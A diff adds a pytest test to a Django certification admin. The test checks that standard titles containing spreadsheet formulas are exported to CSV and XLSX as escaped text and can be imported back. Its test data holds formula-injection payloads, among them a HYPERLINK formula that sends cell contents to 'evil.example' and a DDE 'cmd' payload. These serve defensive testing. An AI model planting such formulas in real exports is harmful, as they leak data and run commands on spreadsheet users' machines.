@@ -342,3 +342,41 @@ def test_the_admin_export_lists_only_the_officers_country(
     response = client.get(reverse("certification_admin:standards_export", args=["csv"]))
     text = response.content.decode("utf-8-sig")
     assert "STD-A" in text and "STD-B" not in text
+
+
+FORMULA_TITLES = [
+    '=HYPERLINK("http://evil.example/?x="&A1,"Ver")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1,2)",
+    "\t=1+1",
+]
+
+
+@pytest.mark.parametrize("title", FORMULA_TITLES)
+def test_a_formula_in_a_title_is_exported_as_text_and_imported_back(
+    chile_levels, title
+):
+    """A title a spreadsheet would run is written with a leading apostrophe,
+    as a text cell in XLSX; importing the export gives the title back."""
+    row = [*GOOD[3][:4], title, *GOOD[3][5:]]
+    standards_import(io.BytesIO(as_csv([row])), "s.csv")
+    assert OccupationalStandard.objects.get().title == title.strip()
+
+    exported_csv = standards_export(OccupationalStandard.objects.all(), "csv")
+    import csv
+
+    [header, cells] = list(csv.reader(io.StringIO(exported_csv.decode("utf-8-sig"))))
+    assert cells[header.index("standard_title")] == "'" + title.strip()
+
+    exported = standards_export(OccupationalStandard.objects.all(), "xlsx")
+    sheet = load_workbook(io.BytesIO(exported)).active
+    cell = sheet.cell(row=2, column=COLUMNS.index("standard_title") + 1)
+    assert cell.data_type == "s"
+    assert cell.value == "'" + title.strip()
+    for cells in sheet.iter_rows():
+        assert all(c.data_type != "f" for c in cells)
+
+    OccupationalStandard.objects.all().delete()
+    standards_import(io.BytesIO(exported), "again.xlsx")
+    assert OccupationalStandard.objects.get().title == title.strip()
